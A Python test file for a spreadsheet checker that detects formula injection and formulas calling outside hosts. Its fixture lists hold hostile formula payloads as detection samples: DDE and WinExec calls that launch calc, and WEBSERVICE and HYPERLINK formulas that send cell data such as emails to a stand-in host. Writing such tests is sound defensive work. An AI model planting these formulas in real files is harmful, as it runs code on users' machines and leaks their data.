"""Formulas that call out and texts that would become formulas, and what only looks like them."""

import numpy as np
import pytest
from checks_world import checked
from hypothesis import given
from hypothesis import strategies as st

from tracker.checks import calls
from tracker.checks.calls import becomes_formula, calls_out, may_begin_formula
from tracker.checks.look import Look
from tracker.schema.base import BASE
from tracker.words import load

OUT = {
    "fetches": [
        'WEBSERVICE("http://x.example/?"&A1)',
        "_xlfn.WEBSERVICE(A1)",
        "SUM(1,webservice(A1))",
        '_xlfn.IMAGE("https://x.example/a.png")',
        'IMPORTDATA("https://x.example")',
        '_xlfn.FILTERXML("http://x.example","//a")',
    ],
    "runs": [
        "cmd|'/c calc'!A0",
        "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
        'RTD("server",,"topic")',
        'CALL("Kernel32","WinExec","JCJ","calc",0)',
        "REGISTER.ID(A1,B1)",
        'EXEC("calc")',
        '1+DDE("soffice",A1,B1)',
    ],
    "other": [
        "[1]Sheet1!A1",
        "'[1]My Sheet'!A1",
        "[1]!Rate",
        "SUM([Prices.xlsx]Sheet1!$A$1:$A$9)",
        "'C:\\data\\[Prices.xlsx]Sheet1'!A1",
        "'\\\\server\\share\\[b.xlsx]S'!A1",
        "'file:///home/x.ods'#$S.A1",
    ],
    "sends": [
        'HYPERLINK("https://x.example/?q="&[@email],"go")',
        'HYPERLINK("http://x.example/"&A1)',
        'IF(A1="","",HYPERLINK(CONCATENATE("https://x.example/",B1),"x"))',
        'HYPERLINK("\\\\server\\"&A1,"x")',
        'HYPERLINK(HYPERLINK("https://x.example/"&A1,"a"),"b")',
        """HYPERLINK('My "Sheet'!A1&"https://x.example/","b")""",
    ],
    "": [
        "SUM(A1:A3)",
        'HYPERLINK("https://x.example","go")',
        'HYPERLINK("mailto:"&B2)',
        "HYPERLINK([@Website])",
        'HYPERLINK("#Customers!A"&MATCH(1,A:A,0),"row")',
        "Customers[email]&Sheet2!A1",
        "[@email]&'My Sheet'!A1",
        "SUM(Customers[[#This Row],[Spend]])",
        "Customers[Spend/12]",
        "'O''Brien'!A1",
        '"http://x.example/"&A1',
        'IF([Note]="[1]Sheet!A1",1,2)',
        'IF(A1="cmd|x!y",1)',
        "CALLER(1)",
        "RECALL(1)",
        'HYPERLINK("#A1","x")&"http://x.example/"&A1',
        'HYPERLINK("https://x.example/"&"a b","x")&HYPERLINK("#"&A1)',
        '_xlfn.CONCAT(A1,"WEBSERVICE(")',
    ],
}


@pytest.mark.parametrize(("how", "formula"), [(how, one) for how, many in OUT.items() for one in many])
def test_what_a_formula_reaches(how, formula):
    assert calls_out(formula) == how


def test_no_formula_of_ours_calls_out():
    derived = [c.derive.excel for table in BASE.tables for c in table.columns if c.derive is not None]
    assert len(derived) > 10
    assert not any(map(calls_out, derived))


def test_every_way_out_has_its_words():
    assert {how for how in OUT if how} <= set(load().section("call"))


BECOMES = [
    *("=SUM(A1)", "=1+2", "@SUM(1+1)", "+A1+5", "-2+3+cmd|' /C calc'!A0", "=cmd|'/c calc'!A0", "\t=1+1", "\r=A1"),
    *("＝SUM(A1)", "＠SUM(1)", "=same as above", '="a"', "-B2", "=[@email]", "=-1", "+IMPORTXML(A1)", "==SUM(A1)"),
]
STAYS = [
    *("+1 555 123 4567", "-5", "- call back", "-", "--", "—", "=", "==== title ====", "=> see notes", "=)", "@anna"),
    *("@home", "-anna", "+Anna called", "+49 (0)30", "-B2B", "-10% off", "+1-800-FLOWERS", "-A4 paper", "\tindented"),
    *("a=SUM(A1)", "5=5", "+ 3 chairs", "-1.5", "+20 %", "-12:30", "- SUM is due"),
]


@pytest.mark.parametrize("text", BECOMES)
def test_texts_that_become_formulas(text):
    assert becomes_formula(text)


@pytest.mark.parametrize("text", STAYS)
def test_texts_that_stay_texts(text):
    assert not becomes_formula(text)


@given(st.lists(st.sampled_from([*BECOMES, *STAYS, "x", "é"]), min_size=1, max_size=4))
def test_a_column_is_cleared_only_when_no_text_becomes_one(column):
    array = np.empty(len(column), object)
    array[:] = column
    assert may_begin_formula(Look(array).starts) or not any(map(becomes_formula, column))


def test_each_cell_of_a_formula_is_told_with_what_it_does():
    _, _, found = checked(
        """
Customers
customer_id | last_name | email       | owner | Price
C1          | Marsh     | m@b.example | Anna  | =[1]P!A1 -> 5
C2          | Silva     | s@b.example | Anna  | =[1]P!A1 -> 5
C3          | Okoro     | o@b.example | Anna  | =A1 -> 5
"""
    )
    assert [(one.code, one.place.row, one.place.header, one.value) for one in found] == [
        ("S103", 2, "Price", "=[1]P!A1"),
        ("S103", 3, "Price", "=[1]P!A1"),
    ]
    assert all(one.details == {"trouble": load().at("call", "other")} for one in found)


@pytest.mark.parametrize("part", ["HYPERLINK(", "HYPERLINK(A&", "HYPERLINK(CONCATENATE(", 'HYPERLINK("http://x"&A1,'])
def test_links_in_links_are_looked_at_once(part):
    """The formula is walked through once, and each link judged by where it begins and ends."""
    steps = []

    class Letters(str):
        def __iter__(self):
            for letter in str.__iter__(self):
                steps.append(1)
                yield letter

    formula = Letters(part * 500)
    spans = list(calls._links(formula))
    assert len(spans) >= 499 and len(steps) == len(formula)
    assert all(isinstance(start, int) for start, _ in spans)  # no copy of what follows each
